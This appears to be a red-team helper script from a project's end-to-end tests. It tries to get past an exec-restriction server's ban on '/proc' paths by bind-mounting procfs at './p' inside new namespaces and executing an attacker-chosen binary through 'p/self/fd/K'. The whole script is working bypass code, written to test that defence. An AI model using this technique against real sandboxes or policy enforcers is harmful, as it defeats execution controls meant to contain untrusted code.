"""Red team 3 (tests/e2e/test_attack_query_by_exec3.py): a procfs somewhere else than ``/proc``
(standard library only).

identity.walk refuses only a path whose first component is ``proc``; a procfs mounted (or
bind-mounted) elsewhere, e.g. ``./p``, is walked as a plain directory *by the server*:
``p/self`` is read with readlink(2) — the server's own pid — and ``p/<server>/fd/K`` is the
server's fd K, whose name the walk then follows. The kernel resolves ``p/self/fd/K`` for the
caller: the caller's fd K. Root makes a mount namespace of its own (the host's stays untouched),
anyone else a user namespace with it; both are ordinary without a sandbox.

Usage:
    python3 qbe_procbind.py EVIL ARGV0 [ARGV1 ...]
        EVIL opened and dup'ed onto every free fd 3..63, then ``execve("p/self/fd/K")`` for each K
        until one is let through. Prints ``MOUNTED``, then ``TRY K <errno>`` per refused exec.
"""

from __future__ import annotations

import ctypes
import errno
import os
import sys

SYS_EXECVE = 59  # x86_64
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 1 << 18


def main() -> None:
    evil, argv = sys.argv[1], sys.argv[2:]
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.geteuid(), os.getegid()
    if libc.unshare(CLONE_NEWNS if uid == 0 else CLONE_NEWNS | CLONE_NEWUSER) != 0:
        print("UNSHARE", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    if uid != 0:
        for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
    if libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None) != 0:
        print("PRIVATE", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    os.makedirs("p", exist_ok=True)
    if libc.mount(b"/proc", b"p", None, MS_BIND | MS_REC, None) != 0:
        print("MOUNT", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    print("MOUNTED", flush=True)
    fd = os.open(evil, os.O_RDONLY)
    free = []
    for k in range(3, 64):
        try:
            os.fstat(k)
        except OSError:
            os.dup2(fd, k, inheritable=True)
            free.append(k)
    cargv = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
    env = [f"{k}={v}".encode() for k, v in os.environ.items()]
    envp = (ctypes.c_char_p * (len(env) + 1))(*env, None)
    libc.syscall.restype = ctypes.c_long
    for k in free:
        sys.stdout.flush()
        libc.syscall(ctypes.c_long(SYS_EXECVE), f"p/self/fd/{k}".encode(), cargv, envp)
        print("TRY", k, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()), flush=True)


if __name__ == "__main__":
    main()
